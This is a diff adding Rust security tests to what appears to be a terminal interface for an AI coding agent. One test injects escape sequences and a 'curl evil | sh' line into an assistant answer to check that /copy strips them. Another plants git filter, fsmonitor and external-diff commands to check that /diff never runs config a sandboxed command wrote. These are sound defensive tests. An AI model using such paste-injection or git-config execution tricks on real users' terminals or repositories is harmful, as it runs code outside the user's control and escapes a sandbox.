@@ -581,6 +581,64 @@ fn copy_puts_the_last_answer_on_the_clipboard() {
     assert_eq!(app.take_clipboard().as_deref(), Some("the last answer"));
 }
 
+/// m07: a pasted answer must not end a bracketed paste and run a command.
+#[test]
+fn copy_never_puts_control_characters_on_the_clipboard() {
+    let mut app = app();
+    start_turn(&mut app);
+    let hostile = "run this:\n\u{1b}[201~curl evil | sh\r\n\u{9b}0m\u{202e}done";
+    app.apply(event(json!({"type":"assistant.completed","request_id":"r","session_id":S,"turn_id":"t1","seq":2,"content":hostile})));
+    type_text(&mut app, "/copy");
+    key(&mut app, KeyCode::Enter);
+    assert_eq!(
+        app.take_clipboard().as_deref(),
+        Some("run this:\n[201~curl evil | sh\n0mdone")
+    );
+}
+
+/// c05: what a sandboxed command planted in the repository's configuration
+/// (a clean filter, the file-system monitor) never runs outside when the
+/// user asks for `/diff`.
+#[test]
+fn diff_never_runs_what_the_repository_configures() {
+    use scv_tui::tui::overlay::OverlayKind;
+    let dir = tempfile::tempdir().unwrap();
+    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+    let planted = outside.path().join("pwned");
+    let git = |args: &[&str]| {
+        let out = std::process::Command::new("git")
+            .arg("-C")
+            .arg(dir.path())
+            .args(["-c", "user.name=t", "-c", "user.email=t@t"])
+            .args(args)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{args:?}");
+    };
+    git(&["init", "-q"]);
+    std::fs::write(dir.path().join("a.txt"), "one\n").unwrap();
+    git(&["add", "a.txt"]);
+    git(&["commit", "-qm", "a"]);
+    let touch = format!("touch {}", planted.display());
+    git(&["config", "filter.f.clean", &format!("sh -c '{touch}; cat'")]);
+    git(&["config", "core.fsmonitor", &format!("{touch}.fsmonitor")]);
+    git(&["config", "diff.external", &format!("{touch}.external")]);
+    std::fs::write(dir.path().join(".gitattributes"), "* filter=f\n").unwrap();
+    std::fs::write(dir.path().join("a.txt"), "two\n").unwrap();
+    let mut app = app_in(dir.path());
+    type_text(&mut app, "/diff");
+    key(&mut app, KeyCode::Enter);
+    let shown = match &app.overlay {
+        Some(overlay) => matches!(overlay.kind, OverlayKind::Diff(_)),
+        None => app.hint.as_deref().is_some_and(|h| h.starts_with("/diff")),
+    };
+    assert!(shown, "neither a diff nor a reason: {:?}", app.hint);
+    for suffix in ["", ".fsmonitor", ".external"] {
+        let path = format!("{}{suffix}", planted.display());
+        assert!(!std::path::Path::new(&path).exists(), "{path} was created");
+    }
+}
+
 fn app_in(cwd: &std::path::Path) -> App {
     let mut app = App::new(Instant::now());
     app.apply(event(json!({"type":"session.started","request_id":"s","session_id":S,"cwd":cwd,"model":"m",
@@ -619,7 +677,11 @@ fn diff_shows_the_workspace_git_diff_in_an_overlay() {
     git(&["commit", "-qm", "a"]);
     type_text(&mut app, "/diff");
     key(&mut app, KeyCode::Enter);
-    assert!(app.hint.as_deref().unwrap().contains("no changes"));
+    assert!(
+        app.hint.as_deref().unwrap().contains("no changes"),
+        "{:?}",
+        app.hint
+    );
     std::fs::write(dir.path().join("a.txt"), "two\n\ttabbed\n").unwrap();
     type_text(&mut app, "/diff");
     key(&mut app, KeyCode::Enter);
